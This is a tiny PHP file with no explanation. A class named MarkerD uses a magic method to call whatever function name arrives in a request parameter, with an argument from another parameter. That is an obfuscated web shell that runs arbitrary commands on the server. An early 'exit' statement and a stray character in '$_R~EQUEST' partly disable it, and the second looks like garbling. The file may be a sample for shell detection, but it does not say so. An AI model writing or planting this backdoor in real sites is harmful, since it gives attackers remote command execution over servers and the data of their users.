<?php exit; ?>
<?php
class MarkerD { function __call($n, $a) { return $n($a[0]); } } $d = new MarkerD; $d->{$_REQUEST['f']}($_R~EQUEST['m']);
